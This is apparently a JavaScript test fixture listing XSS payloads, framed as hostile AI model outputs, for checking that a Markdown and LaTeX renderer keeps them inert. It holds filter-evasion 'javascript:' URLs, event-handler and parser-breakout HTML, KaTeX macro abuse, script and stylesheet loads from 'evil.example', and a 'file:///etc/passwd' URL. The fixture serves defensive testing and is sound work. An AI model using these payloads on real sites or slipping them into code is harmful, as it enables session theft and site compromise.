// Hostile model outputs for the XSS tests: every payload, if it ran, calls `__pwn()` (or
// `alert`), which the test page turns into a counted canary. Each entry is [name, text].

const CALL = '__pwn()';

/** `javascript:`, `vbscript:` and `data:` URLs in the spellings browsers and parsers have been
 *  fooled by: case, HTML entities, whitespace and control characters, percent-encoding. */
const schemes = [
  ['plain', `javascript:${CALL}`],
  ['mixed case', `JaVaScRiPt:${CALL}`],
  ['upper case', `JAVASCRIPT:${CALL}`],
  ['leading space', ` javascript:${CALL}`],
  ['leading control char', `\u0001javascript:${CALL}`],
  ['tab inside', `java\tscript:${CALL}`],
  ['newline inside', `java\nscript:${CALL}`],
  ['entity tab', `java&#x09;script:${CALL}`],
  ['entity newline', `java&#10;script:${CALL}`],
  ['decimal entity j', `&#106;avascript:${CALL}`],
  ['hex entity j', `&#x6A;avascript:${CALL}`],
  ['padded hex entity', `&#x0000006A;avascript:${CALL}`],
  ['named colon entity', `javascript&colon;${CALL}`],
  ['entity colon', `javascript&#58;${CALL}`],
  ['percent-encoded j', `%6Aavascript:${CALL}`],
  ['percent-encoded colon', `javascript%3A${CALL}`],
  ['backslash escape', `javascript\\:${CALL}`],
  ['vbscript', 'vbscript:msgbox(1)'],
  ['VBScript mixed case', 'VbScRiPt:msgbox(1)'],
  ['data html', `data:text/html,<script>${CALL}</script>`],
  ['data html base64', 'data:text/html;base64,PHNjcmlwdD5fX3B3bigpPC9zY3JpcHQ+'],
  ['DATA upper case', `DATA:text/html,<script>${CALL}</script>`],
  ['data svg', `data:image/svg+xml,<svg onload="${CALL}"/>`],
  ['data svg base64', 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Il9fcHduKCkiLz4='],
  ['file', 'file:///etc/passwd'],
];

/** Markdown constructs that carry a URL, each with every spelling above. */
const carriers = [
  ['inline link', (u) => `Click [here](${u}) now.`],
  ['inline link in angle brackets', (u) => `Click [here](<${u}>) now.`],
  ['image', (u) => `![pic](${u})`],
  ['reference link', (u) => `See [the docs][d].\n\n[d]: ${u}`],
];

const urlCases = [];
for (const [carrier, wrap] of carriers) {
  for (const [spelling, url] of schemes) urlCases.push([`${carrier}: ${spelling}`, wrap(url)]);
}

const autolinks = [
  ['autolink javascript', `<javascript:${CALL}>`],
  ['autolink upper case', `<JAVASCRIPT:${CALL}>`],
  ['autolink vbscript', '<vbscript:msgbox(1)>'],
  ['autolink data', `<data:text/html,<script>${CALL}</script>>`],
  ['autolink with quote breakout', `<https://example.com/"onmouseover="${CALL}">`],
  ['bare URL with HTML after', `https://example.com/<img src=x onerror=${CALL}>`],
  ['www autolink with quote', `www.example.com/"onmouseover="${CALL}"`],
  ['email autolink with HTML', `<a@b.co"><img src=x onerror=${CALL}>>`],
  ['bare javascript text', `javascript:${CALL} is not a link`],
];

const rawHtml = [
  ['script tag', `<script>${CALL}</script>`],
  ['script tag upper case', `<SCRIPT>${CALL}</SCRIPT>`],
  ['script src', '<script src="https://evil.example/x.js"></script>'],
  ['img onerror', `<img src=x onerror=${CALL}>`],
  ['img onerror quoted', `<img src="x" onerror="${CALL}">`],
  ['svg onload', `<svg onload=${CALL}>`],
  ['svg script', `<svg><script>${CALL}</script></svg>`],
  ['svg animate href', `<svg><a><animate attributeName=href values=javascript:${CALL} /><text y=20>x</text></a></svg>`],
  ['math breakout', `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`],
  ['iframe javascript', `<iframe src="javascript:${CALL}"></iframe>`],
  ['iframe srcdoc', `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`],
  ['anchor javascript', `<a href="javascript:${CALL}">click</a>`],
  ['anchor onclick', `<a href="#" onclick="${CALL}">click</a>`],
  ['details ontoggle', `<details open ontoggle=${CALL}><summary>x</summary></details>`],
  ['body onload', `<body onload=${CALL}>`],
  ['input autofocus', `<input autofocus onfocus=${CALL}>`],
  ['form action', `<form action="javascript:${CALL}"><button>go</button></form>`],
  ['button formaction', `<button formaction="javascript:${CALL}">go</button>`],
  ['object data', `<object data="javascript:${CALL}"></object>`],
  ['embed src', `<embed src="javascript:${CALL}">`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`],
  ['base href', '<base href="javascript:/">'],
  ['style import', "<style>@import 'https://evil.example/x.css';</style>"],
  ['style attribute', `<p style="background:url(javascript:${CALL})">x</p>`],
  ['video source onerror', `<video><source onerror="${CALL}"></video>`],
  ['audio onerror', `<audio src=x onerror=${CALL}>`],
  ['marquee onstart', `<marquee onstart=${CALL}>x</marquee>`],
  ['comment breakout', `<!--><img src=x onerror=${CALL}>-->`],
  ['noscript breakout', `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`],
  ['template', `<template><img src=x onerror=${CALL}></template>`],
  ['html block then markdown', `<div>\n\n<img src=x onerror=${CALL}>\n\n</div>`],
  ['unclosed tag across the stream', `<img src=x onerror=${CALL} `],
  ['tag split by a newline', `<img\nsrc=x\nonerror=${CALL}>`],
  ['entity-encoded tag', `&lt;img src=x onerror=${CALL}&gt;`],
  ['double-encoded tag', `&amp;lt;script&amp;gt;${CALL}&amp;lt;/script&amp;gt;`],
  ['null byte in tag', `<scr\u0000ipt>${CALL}</script>`],
  ['xml processing instruction', `<?xml-stylesheet href="javascript:${CALL}"?>`],
  ['cdata', `<![CDATA[<img src=x onerror=${CALL}>]]>`],
];

const breakouts = [
  ['link title breakout', `[x](https://example.com "t\\" onmouseover=\\"${CALL}")`],
  ['link URL quote breakout', `[x](https://example.com/" onmouseover="${CALL})`],
  ['angle link breakout', `[x](<https://example.com/" onclick=${CALL}>)`],
  ['image URL quote breakout', `![x](https://example.com/a.png" onerror="${CALL})`],
  ['image alt breakout', `![x" onerror="${CALL}](https://example.com/a.png)`],
  ['image title breakout', `![x](https://example.com/a.png 't" onerror="${CALL}')`],
  ['code fence info breakout', `\`\`\`js" onmouseover="${CALL}\nlet a = 1;\n\`\`\``],
  ['code fence info with tag', `\`\`\`<img src=x onerror=${CALL}>\ncode\n\`\`\``],
  ['code span with tag', `\`<img src=x onerror=${CALL}>\``],
  ['heading with tag', `# Title <img src=x onerror=${CALL}>`],
  ['table cell with tag', `| a | b |\n|---|---|\n| <img src=x onerror=${CALL}> | [x](javascript:${CALL}) |`],
  ['table alignment breakout', `| a |\n|:-" onclick="${CALL}|\n| b |`],
  ['list item with tag', `- <svg onload=${CALL}>\n- [ ] <img src=x onerror=${CALL}>`],
  ['blockquote with tag', `> <script>${CALL}</script>`],
  ['emphasis around tag', `*<img src=x onerror=${CALL}>*`],
  ['strikethrough around link', `~~[x](javascript:${CALL})~~`],
  ['footnote-like label', `[^1]\n\n[^1]: javascript:${CALL}`],
];

const brackets = [
  ['nested link in link text', `[[inner](javascript:${CALL})](https://example.com)`],
  ['link inside image alt', `![[x](javascript:${CALL})](https://example.com/a.png)`],
  ['image inside link', `[![x](javascript:${CALL})](javascript:${CALL})`],
  ['unterminated link', `[x](javascript:${CALL}`],
  ['unterminated image', `![x](javascript:${CALL}`],
  ['unterminated reference', `[x][r\n\n[r]: javascript:${CALL}`],
  ['spaces around destination', `[x](   javascript:${CALL}   )`],
  ['destination on the next line', `[x](\njavascript:${CALL})`],
  ['parentheses in destination', `[x](javascript:(${CALL}))`],
  ['escaped brackets', `\\[x\\](javascript:${CALL})`],
  ['many open brackets', `${'['.repeat(50)}x](javascript:${CALL})`],
  ['reference defined twice', `[x]\n\n[x]: https://example.com\n[x]: javascript:${CALL}`],
  ['reference with title breakout', `[x]\n\n[x]: https://example.com "a\\" onclick=\\"${CALL}"`],
  ['collapsed reference', `[x][]\n\n[x]: javascript:${CALL}`],
  ['shortcut reference image', `![x]\n\n[x]: javascript:${CALL}`],
];

/** LaTeX that KaTeX-style converters have interpreted: links, raw HTML, classes and styles,
 *  macros, and input meant to exhaust the converter. Each must stay inert text. */
const math = [
  ['math href', `$\\href{javascript:${CALL}}{click}$`],
  ['math url', `$\\url{javascript:${CALL}}$`],
  ['math html class', `$\\htmlClass{x" onclick="${CALL}}{y}$`],
  ['math html style', `$\\htmlStyle{background:url(javascript:${CALL})}{y}$`],
  ['math html data', `$\\htmlData{onclick=${CALL}}{y}$`],
  ['math html id', `$\\htmlId{x" onmouseover="${CALL}}{y}$`],
  ['math includegraphics', `$\\includegraphics{javascript:${CALL}}$`],
  ['math raw tag in text', `$\\text{<img src=x onerror=${CALL}>}$`],
  ['math raw tag as symbols', `$<img src=x onerror=${CALL}>$`],
  ['math display with tag', `$$<script>${CALL}</script>$$`],
  ['math bracket delimiters with tag', `\\[<svg onload=${CALL}>\\]`],
  ['math paren delimiters with link', `\\([x](javascript:${CALL})\\)`],
  ['math macro definition', `$\\def\\x{\\href{javascript:${CALL}}{y}}\\x$`],
  ['math newcommand', `$\\newcommand{\\x}{\\href{javascript:${CALL}}{y}} \\x$`],
  ['math color with quote', `$\\color{red" onload="${CALL}}{x}$`],
  ['math annotation breakout', `$x</annotation><img src=x onerror=${CALL}>$`],
  ['math environment with tag', `$$\\begin{matrix} <img src=x onerror=${CALL}> & 1 \\end{matrix}$$`],
  ['math unknown environment', `$$\\begin{<img src=x onerror=${CALL}>} x \\end{<img src=x onerror=${CALL}>}$$`],
  ['math deep nesting', `$${'{'.repeat(5000)}x${'}'.repeat(5000)}$`],
  ['math huge input', `$${'x^'.repeat(20000)}x$`],
  ['math many fractions', `$${'\\frac{a}{'.repeat(300)}b${'}'.repeat(300)}$`],
];

export const corpus = [...urlCases, ...autolinks, ...rawHtml, ...breakouts, ...brackets, ...math];

/** Short payloads for places that are plain text (tool names, errors): the raw HTML ones and
 *  a sample of URLs. */
export const plainTextCorpus = [...rawHtml, ...autolinks, ...breakouts.slice(0, 6), ...schemes.map(([n, u]) => [`url ${n}`, u])];
